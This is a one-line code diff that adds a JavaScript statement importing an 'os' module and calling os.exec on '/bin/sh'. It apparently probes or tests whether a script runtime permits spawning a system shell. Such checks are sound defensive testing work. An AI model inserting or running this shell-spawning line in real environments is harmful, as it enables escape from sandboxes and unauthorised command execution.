@@ -1,0 +1,1 @@
+const os = await import("os"); os.exec(["/bin/sh"])
